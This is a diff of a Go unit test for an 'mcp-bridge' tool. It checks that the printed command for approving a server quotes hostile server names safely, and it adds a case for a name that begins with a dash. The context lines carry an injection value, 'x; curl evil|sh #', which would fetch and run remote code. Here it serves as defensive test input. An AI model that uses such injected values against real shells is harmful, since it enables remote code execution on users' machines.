@@ -104,6 +104,10 @@ func TestHowToApprove(t *testing.T) {
 		"to allow it, run: mcp-bridge servers approve 'x; curl evil|sh #'"; got != want {
 		t.Errorf("%s, want %s", got, want)
 	}
+	if got, want := elicit.HowToApprove(discovery.Server{Name: "-x"}, ""),
+		"to allow it, run: mcp-bridge servers approve -- -x"; got != want {
+		t.Errorf("%s, want %s", got, want)
+	}
 	s.Source.Scope = discovery.Listed
 	if got, want := elicit.HowToApprove(s, "this directory"),
 		"to allow it, in this directory, run: mcp-bridge servers approve 'x; curl evil|sh #'"; got != want {
